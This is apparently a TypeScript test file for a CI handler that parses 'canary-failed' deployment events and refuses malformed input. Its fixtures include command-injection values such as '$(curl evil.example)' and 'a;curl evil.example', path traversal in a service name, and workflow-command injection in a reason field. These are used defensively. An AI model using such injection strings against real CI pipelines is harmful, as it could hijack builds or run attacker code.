import { failedBy } from './canary-failed.js'
import { Refusal } from './dispatch.js'

const PAYLOAD = {
  service: 'order-service',
  version: '0.1.0-BUILD.20261129080000',
  reason: 'request-success-rate 61.20 < 99',
}
const told = (change: Record<string, unknown> = {}, action: unknown = 'canary-failed') => ({
  action,
  client_payload: { ...PAYLOAD, ...change },
})

describe("the cluster's word that a canary has failed", () => {
  it('says which service and version, and why', () => {
    expect(failedBy(told())).toEqual({ ...PAYLOAD, reason: 'request-success-rate 61.20 99', isJudged: true })
    expect(failedBy({ event_type: 'canary-failed', client_payload: PAYLOAD })).toMatchObject({
      service: 'order-service',
    })
  })

  it('may be the word of a person, who has started the workflow', () => {
    const { service, version } = PAYLOAD

    const reason = 'asked for by hand'
    expect(failedBy({ inputs: { service, version } })).toEqual({ service, version, reason, isJudged: false })
  })

  it.each([
    ['true', true],
    ['false', false],
    [true, true],
  ])('knows nothing of a canary that goes on, but what that person says: promoted %s', (promoted, isJudged) => {
    const { service, version } = PAYLOAD

    expect(failedBy({ inputs: { service, version, promoted } })).toMatchObject({ isJudged })
  })

  it('can give no orders by its reason', () => {
    expect(failedBy(told({ reason: 'x\n::stop-commands::y\n[skip ci] $(curl evil.example)' })).reason).toBe(
      'x ::stop-commands::y skip ci (curl evil.example)',
    )
  })

  it.each<[string, unknown]>([
    ['nothing', undefined],
    ['of another type', told({}, 'promoted')],
    ['of no type', { client_payload: PAYLOAD }],
    ['of a service with a path', told({ service: '../order-service' })],
    ['of a service that is a command', told({ service: 'a;curl evil.example' })],
    ['of a version that is none', told({ version: 'latest' })],
    ['of a version with more lines', told({ version: `${PAYLOAD.version}\nx=y` })],
    ['without a reason', told({ reason: undefined })],
    ['with something else beside it', told({ again: true })],
    ['of a person who asks for a command', { inputs: { service: '$(curl evil.example)', version: PAYLOAD.version } }],
  ])('is refused when it is %s', (_, body) => {
    expect(() => failedBy(body)).toThrow(Refusal)
  })
})
